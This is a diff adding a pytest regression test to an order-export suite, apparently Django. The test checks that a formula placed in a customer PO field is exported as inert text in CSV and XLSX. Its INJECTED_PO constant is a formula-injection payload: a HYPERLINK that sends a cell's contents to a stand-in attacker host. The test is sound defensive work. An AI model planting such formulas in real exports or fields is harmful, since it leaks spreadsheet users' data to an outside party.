@@ -434,3 +434,24 @@ def test_the_xlsx_holds_real_dates_and_local_times(client, merchandiser, book):
     assert delivery.is_date and delivery.value.date() == book["zephyr_new"].delivery_date
     assert sheet.cell(row=2, column=header.index("State") + 1).value == "Received"
     assert sheet.cell(row=2, column=header.index("Channel") + 1).value == "Phone"
+
+
+INJECTED_PO = '=HYPERLINK("https://evil.example/?d="&B2,"Open PO")'
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_formula_in_a_customer_field_is_exported_as_text(client, merchandiser, fmt):
+    """A customer's system set its PO to a formula through the API; the export wrote it live (issue 19)."""
+    make_order(merchandiser=merchandiser, customer_po=INJECTED_PO)
+    client.force_login(merchandiser)
+
+    response = client.get(reverse("orders:export", args=[fmt]))
+
+    if fmt == "csv":
+        assert po_set(csv_rows(response)) == {"'" + INJECTED_PO}
+    else:
+        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+        header = [c.value for c in sheet[1]]
+        cell = sheet.cell(row=2, column=header.index("Customer PO") + 1)
+        assert cell.data_type == "s"
+        assert cell.value == "'" + INJECTED_PO
